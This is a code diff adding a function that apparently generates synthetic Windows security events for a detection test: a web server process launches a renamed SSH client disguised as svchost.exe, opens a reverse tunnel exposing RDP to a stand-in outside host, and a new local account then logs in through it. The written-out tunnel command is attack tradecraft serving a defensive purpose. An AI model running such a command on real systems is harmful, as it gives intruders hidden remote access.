@@ -168,6 +168,19 @@ def gateway(*, entered: bool) -> list[Event]:
     return story.events
 
 
+def tunnel() -> list[Event]:
+    """A web server: the account of the server digs a tunnel with a renamed client; an account made the same way comes through it."""
+    story, host = Story(datetime(2026, 3, 2, 22, tzinfo=UTC), "WEB03", "S-1-5-21-1-2-3-1109"), "web03"
+    server = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WEB03$", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7"}
+    command = "C:\\Windows\\Temp\\svchost.exe -ssh -P 443 -N -R 33899:127.0.0.1:3389 root@203.0.113.9 -pw x"
+    story.add(SECURITY, 4688, host, **server, NewProcessName="C:\\Windows\\Temp\\svchost.exe", CommandLine=command, ParentProcessName="w3wp.exe")
+    story.go(minutes=2)
+    story.add(SECURITY, 4720, host, TargetUserName="helper", TargetDomainName="WEB03", TargetSid="S-1-5-21-1-2-3-1109", **server)
+    story.go(minutes=5)
+    story.enter(host, "helper", "127.0.0.1", 0x99000, "WIN-9F2K")
+    return story.events
+
+
 def _iso(event: Event, end: str = "Z") -> str:
     return event.time.strftime("%Y-%m-%dT%H:%M:%S.%f") + end
 
